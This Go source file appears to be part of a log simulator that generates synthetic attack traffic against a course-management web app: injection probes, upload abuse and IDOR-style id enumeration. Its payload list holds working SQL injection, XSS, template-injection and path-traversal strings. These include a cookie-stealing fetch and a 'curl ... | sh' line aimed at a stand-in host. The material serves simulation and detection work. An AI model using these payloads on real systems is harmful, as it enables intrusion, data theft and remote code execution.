package main

import (
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// payloads are what injection attempts put in query values: SQL, script,
// template, path traversal, shell, NoSQL and LDAP.
var payloads = []string{
	"' OR '1'='1", "1' UNION SELECT username,password FROM users--", "1; DROP TABLE grades--", "' AND SLEEP(5)--",
	"1 AND 1=CONVERT(int,@@version)", "admin'--", "1' ORDER BY 10--", "<script>alert(document.cookie)</script>",
	"\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=fetch('//x.example/'+document.cookie)>", "{{7*7}}", "${7*7}",
	"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>", "#{7*7}", "../../../../etc/passwd",
	"..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "|cat /etc/passwd", "$(curl http://x.example/a.sh|sh)",
	"`id`", "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*", "1' AND extractvalue(1,concat(0x7e,version()))--",
}

// rawQuery is what even a raw payload must have escaped to stay a query value.
var rawQuery = strings.NewReplacer(" ", "%20", "&", "%26", "#", "%23")

// injectable are query parameters that end up in a search, a sort, a
// redirect or a file name; the first four need no session.
func (w *world) injectable(r *rand.Rand) []string {
	c := w.s.course(r)
	return []string{
		"/catalog/search?q=", "/login?return_to=", "/catalog/courses/" + Pick(r, subjects) + "-101?ref=", "/public/courses/" + c + "/syllabus?lang=",
		"/courses/" + c + "/search?q=", "/api/v2/courses/" + c + "/users?search_term=", "/api/v2/courses/" + c + "/discussion_topics?order_by=",
		"/courses/" + c + "/files?sort=", "/api/v2/planner/items?start_date=", "/files/" + strconv.Itoa(5000000+r.IntN(400000)) + "/download?name=",
		"/courses/" + c + "/pages/week-3?redirect_to=", "/api/v2/courses/" + c + "/assignments?search_term=", w.main.api + "/questions?include[]=",
	}
}

// injection tries payloads in query values: a scanner with no session, a
// person in a signed-in session between page views, the app's API with
// its key, or payloads encoded twice to pass a filter.
func (w *world) injection(r *rand.Rand) {
	a := w.attacker(r, kInject, 0.45)
	on, off := w.span(r, 60, 600)
	targets := w.injectable(r)
	var rate, disguise, pRaw, pOnce float64
	switch w.variant(r, kInject) {
	case 0:
		a.ua = Pick(r, []string{"sqlmap/1.8.6#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"})
		targets, rate, pRaw, pOnce = targets[:4], LogUniform(r, 1, 8), 0.5, 0.9
	case 1:
		w.signedIn(a)
		rate, disguise, pRaw, pOnce = 1/LogUniform(r, 3, 30), 0.9, 0.3, 0.85
		on, off = w.span(r, 300, 900)
	case 2:
		a = w.signedIn(w.asApp(a))
		targets, rate, pRaw, pOnce = []string{targets[5], targets[6], targets[8], targets[11], targets[12]}, LogUniform(r, 0.2, 2), 0.2, 0.8
	default:
		w.signedIn(a)
		rate, disguise, pRaw, pOnce = LogUniform(r, 0.3, 4), 0.4, 0.05, 0.35
	}
	w.attack(a, on, off, rate, disguise, func(t int64) {
		p := Pick(r, targets) + EncodeQuery(r, Pick(r, payloads), rawQuery, pRaw, pOnce)
		if Chance(r, 0.3) {
			p += "&per_page=" + strconv.Itoa(10*(1+r.IntN(5)))
		}
		st := either(r, 0.4, 200, 400, 400, 403, 403, 403, 500, 500)
		a.get(t, p, st, okKB(st, 20))
	})
}

// uploadAbuse fills the assignment endpoint: files of 50 to 400 MB sent
// whole a few times a minute (over the limit, refused 413), the same
// through the resumable upload API until the quota refuses, or a stream
// of mid-sized files every few seconds.
func (w *world) uploadAbuse(r *rand.Rand) {
	a := w.signedIn(w.attacker(r, kUpload, 0.4))
	on, off := w.span(r, 120, 600)
	api := "/api/v2/courses/" + w.s.course(r) + "/assignments/" + strconv.Itoa(w.s.assignment+r.IntN(30)) + "/submissions/files"
	var hit func(t int64)
	var rate float64
	switch w.variant(r, kUpload) {
	case 0:
		rate = 1 / Uniform(r, 10, 40)
		hit = func(t int64) { a.upload(t, api, LogUniform(r, 50, 400)) }
	case 1:
		rate = 1 / Uniform(r, 15, 60)
		hit = func(t int64) { a.chunked(t, LogUniform(r, 50, 400), either(r, 0.3, 201, 507)) }
	default:
		rate = 1 / Uniform(r, 2, 8)
		hit = func(t int64) { a.upload(t, api, LogUniform(r, 5, 30)) }
	}
	w.attack(a, on, off, rate, 0.5, hit)
}

// enumeration walks ids, IDOR style: submissions, student profiles,
// files, or submissions through the app's API. Most are refused (403) or
// missing (404); some are served.
func (w *world) enumeration(r *rand.Rand) {
	a := w.signedIn(w.attacker(r, kEnum, 0.4))
	on, off := w.span(r, 60, 600)
	rate := LogUniform(r, 0.5, 10)
	step := 1 + r.IntN(3)*r.IntN(4)
	var next func(id int) (string, int)
	switch w.variant(r, kEnum) {
	case 0:
		next = func(id int) (string, int) {
			return "/api/v2/submissions/" + strconv.Itoa(3000000+id), either(r, 0.35, 403, 404, 404, 200)
		}
	case 1:
		next = func(id int) (string, int) {
			return "/api/v2/users/" + strconv.Itoa(40000+id) + "/profile", either(r, 0.4, 403, 404, 200, 200)
		}
	case 2:
		next = func(id int) (string, int) {
			return "/files/" + strconv.Itoa(5000000+id) + "/download", either(r, 0.35, 403, 404, 404, 302)
		}
	default:
		a = w.asApp(a)
		c := "/api/v2/courses/" + w.s.course(r) + "/assignments/" + strconv.Itoa(w.s.assignment+r.IntN(3000)) + "/submissions/"
		next = func(id int) (string, int) {
			return c + strconv.Itoa(40000+id) + "?include[]=attachments", either(r, 0.3, 403, 404, 200)
		}
	}
	id := r.IntN(300000)
	w.attack(a, on, off, rate, 0.6, func(t int64) {
		p, st := next(id)
		id += step
		a.get(t, p, st, okKB(st, 6))
	})
}
